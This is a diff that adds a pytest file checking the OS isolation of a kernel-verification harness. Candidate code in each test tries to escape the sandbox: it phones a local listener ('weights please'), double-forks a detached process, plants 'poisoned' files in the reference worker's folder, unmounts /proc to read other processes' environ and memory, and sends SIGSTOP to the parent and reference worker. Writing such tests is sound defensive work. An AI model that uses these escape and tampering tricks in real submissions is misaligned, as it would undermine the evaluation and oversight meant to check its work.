@@ -1,0 +1,184 @@
+"""Attacks on the OS isolation of candidate processes, run the way a candidate would run them (module-level Python
+that executes in the compile worker and again in the candidate worker), with static checks off so that only the
+OS layers stand in the way: no TCP connection to a listener the test holds, no process left after `verify`
+returns, no file written outside the candidate's scratch folder, no read of another process's /proc files and no
+signal to the reference worker.
+
+Each attack prints what it tried; the wrong-on-purpose ones (`add_only`) are rejected, so the verdict keeps their
+output tail and the test can see that the attack ran.
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+import time
+from pathlib import Path
+
+import pytest
+
+from kernelmosaic.verify import Status, Verifier, VerifyConfig
+from kernelmosaic.verify.isolation import missing, plan_for
+
+from .kit import PROBLEM_ADD_RELU, candidate, write
+
+pytestmark = pytest.mark.slow
+
+CPU = plan_for("cpu")
+
+
+@pytest.fixture(scope="module")
+def open_verifier(build_cache):
+    """Static checks off: the OS layers must hold where a static rule misses."""
+    config = VerifyConfig(device="cpu", trials=2, cache_dir=build_cache, timing_budget_ms=20, timing_rounds=2,
+                          compile_baseline=False, run_timeout_s=20, memory_limit_gb=8, static_checks=False)
+    with Verifier(config) as verifier:
+        yield verifier
+
+
+def _log(verdict) -> str:
+    return verdict.compile.log + "\n" + verdict.candidate_output_tail
+
+
+def test_no_tcp_connection_and_the_verdict_stays_honest(open_verifier, tmp_path):
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(8)
+    listener.setblocking(False)
+    port = listener.getsockname()[1]
+    extra = f'''
+import os as _o, socket as _s
+def _phone_home():
+    try:
+        c = _s.create_connection(("127.0.0.1", {port}), timeout=2)
+        c.sendall(b"weights please")
+        said = "connect: connected"
+    except OSError as e:
+        said = f"connect: failed {{type(e).__name__}} {{e}}"
+    print(said, flush=True)
+_phone_home()
+'''
+    verdict = open_verifier.verify(write(tmp_path, "p.py", PROBLEM_ADD_RELU),
+                                   write(tmp_path, "c.py", candidate("return ext.add_only(a, b)", extra=extra)))
+    try:
+        conn, _ = listener.accept()
+        conn.close()
+        connected = True
+    except BlockingIOError:
+        connected = False
+    listener.close()
+    assert not connected, "a candidate process reached the test's listener"
+    said = _log(verdict)  # the kernel is wrong on purpose (no ReLU) so that the verdict keeps the output tail
+    assert "connect: failed" in said and "connect: connected" not in said, said[-2000:]
+    assert verdict.status == Status.output_mismatch, (verdict.status, verdict.message)  # its kernel's own verdict
+    assert not missing(verdict.env.isolation), verdict.env.isolation
+
+
+def _sleepers(token: str) -> list[int]:
+    found = []
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            try:
+                if token.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
+                    found.append(int(entry))
+            except OSError:
+                continue
+    return found
+
+
+def test_setsid_double_fork_leaves_no_process(open_verifier, tmp_path):
+    token = f"600.{os.getpid()}{int(time.time()) % 100000}"
+    extra = f'''
+import os as _os
+def _detach():
+    if _os.fork() == 0:
+        _os.setsid()
+        if _os.fork() == 0:
+            _os.execvp("sleep", ["sleep", "{token}"])
+        _os._exit(0)
+    print("sleeper: forked", flush=True)
+_detach()
+'''
+    verdict = open_verifier.verify(write(tmp_path, "p.py", PROBLEM_ADD_RELU),
+                                   write(tmp_path, "c.py", candidate("return ext.add_only(a, b)", extra=extra)))
+    assert not verdict.accepted
+    assert "sleeper: forked" in _log(verdict)
+    deadline = time.monotonic() + 5  # a killed process is reaped by its new parent asynchronously
+    while (left := _sleepers(token)) and time.monotonic() < deadline:
+        time.sleep(0.1)
+    for pid in left:  # never leave it running, whatever the verdict of this test
+        os.kill(pid, 9)
+    assert not left, f"a detached candidate process outlived verify: {left}"
+
+
+@pytest.mark.skipif(not CPU.landlock, reason="no Landlock on this kernel: writes outside the scratch folder are not "
+                                             "confined here (the verdict records it and is not verified)")
+def test_no_write_outside_the_scratch_folder(open_verifier, tmp_path):
+    outside = tmp_path / "escaped"
+    outside.mkdir()
+    extra = f'''
+import glob as _g, os as _os, tempfile as _t
+def _plant():
+    targets = [{str(outside / "from_candidate.txt")!r}]
+    targets += [d + "/triton.py" for d in _g.glob("/tmp/km-reference-*") + _g.glob(_t.gettempdir() + "/km-reference-*")]
+    for t in targets:
+        try:
+            with open(t, "w") as f:
+                f.write("raise SystemExit('poisoned')\\n")
+            print(f"plant: wrote {{t}}", flush=True)
+        except OSError as e:
+            print(f"plant: refused {{t}} {{type(e).__name__}}", flush=True)
+_plant()
+'''
+    verdict = open_verifier.verify(write(tmp_path, "p.py", PROBLEM_ADD_RELU),
+                                   write(tmp_path, "c.py", candidate("return ext.add_only(a, b)", extra=extra)))
+    assert not verdict.accepted
+    log = _log(verdict)
+    assert "plant: refused" in log and "plant: wrote" not in log, log[-2000:]
+    assert not (outside / "from_candidate.txt").exists()
+    assert not any(Path(p).name == "triton.py" for p in _scan_reference_scratch())
+
+
+def _scan_reference_scratch() -> list[str]:
+    import glob
+    import tempfile
+
+    return glob.glob(f"{tempfile.gettempdir()}/km-reference-*/*")
+
+
+def test_no_proc_read_or_signal_of_the_parent_or_reference(open_verifier, tmp_path):
+    problem = write(tmp_path, "p.py", PROBLEM_ADD_RELU)
+    first = open_verifier.verify(problem, write(tmp_path, "ok.py", candidate("return ext.add_relu(a, b)")))
+    ref_pid = first.workers.reference_pid
+    assert ref_pid and Path(f"/proc/{ref_pid}").exists()
+    extra = f'''
+import ctypes as _c, os as _os, signal as _sig
+def _peek():
+    _c.CDLL(None).umount2(b"/proc", 2)  # a private /proc over the host's: try to take it away
+    for pid in ({os.getpid()}, {ref_pid}, _os.getppid()):
+        for name in ("environ", "cmdline", "cwd", "mem"):
+            path = f"/proc/{{pid}}/{{name}}"
+            try:
+                got = _os.readlink(path) if name == "cwd" else open(path, "rb").read(4096)
+                print(f"peek: got {{path}} {{got[:80]!r}}", flush=True)
+            except (OSError, ValueError) as e:
+                print(f"peek: denied {{path}} {{type(e).__name__}}", flush=True)
+        try:
+            _os.kill(pid, _sig.SIGSTOP)
+            print(f"peek: signalled {{pid}}", flush=True)
+        except OSError as e:
+            print(f"peek: signal refused {{pid}} {{type(e).__name__}}", flush=True)
+_peek()
+'''
+    verdict = open_verifier.verify(problem, write(tmp_path, "peek.py", candidate("return ext.add_only(a, b)", extra=extra)))
+    assert not verdict.accepted
+    log = _log(verdict)
+    assert f"peek: denied /proc/{ref_pid}/environ" in log, log[-3000:]
+    assert f"peek: denied /proc/{os.getpid()}/environ" in log
+    for pid in (os.getpid(), ref_pid):
+        assert f"peek: got /proc/{pid}/environ" not in log and f"peek: got /proc/{pid}/mem" not in log
+        assert f"peek: got /proc/{pid}/cwd" not in log  # the scratch folder of another worker stays unnamed
+        assert f"peek: signalled {pid}" not in log
+    assert Path(f"/proc/{ref_pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "T"  # not stopped
+    again = open_verifier.verify(problem, write(tmp_path, "ok2.py", candidate("return ext.add_relu(a, b)")))
+    assert again.accepted, (again.status, again.message)
